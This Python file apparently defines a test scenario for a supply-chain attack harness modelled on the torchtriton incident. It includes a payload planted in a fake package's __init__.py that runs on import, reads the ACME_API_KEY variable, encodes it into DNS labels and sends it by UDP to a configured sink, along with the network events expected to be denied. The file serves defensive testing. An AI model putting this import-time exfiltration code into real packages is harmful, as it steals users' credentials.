"""Loot in the labels of host names, sent to a resolver of the attacker's choice: torchtriton."""

from payloads import app, quietly
from scenario import Expected, Scenario
from support.wheels import Wheel

# AI_NUMERICHOST keeps the look-up on this machine: it is refused before any resolver is asked.
TUNNEL = """
import os, socket
word = os.environ["ACME_API_KEY"].encode().hex()
name = ".".join(word[at:at + 60] for at in range(0, len(word), 60)) + ".canary.invalid"
try:
    socket.getaddrinfo(name, 53, flags=socket.AI_NUMERICHOST)
except OSError:
    pass
host, port = os.environ["SINK_UDP"].split(":")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
    resolver.sendto(b"\\0" * 12 + name.encode(), (host, int(port)))
"""

SCENARIOS = (
    Scenario(
        row=20,
        story="importing the package looks up a name made of a variable, and sends the same name by UDP",
        models=("torchtriton 3.0.0",),
        techniques=("T1195.001", "T1048.003", "T1071.004", "T1132.001"),
        wheels=(Wheel("acme-triton", "3.0.7", {"acme_triton/__init__.py": quietly(TUNNEL)}),),
        app=app("import acme_triton"),
        achieves=("leaked:variable", "UDP:"),
        denied=(
            Expected("net.resolve", "acme-triton", "import", "*.canary.invalid*"),
            Expected("net.connect", "acme-triton", "import", "127.0.0.1:*"),
        ),
    ),
)
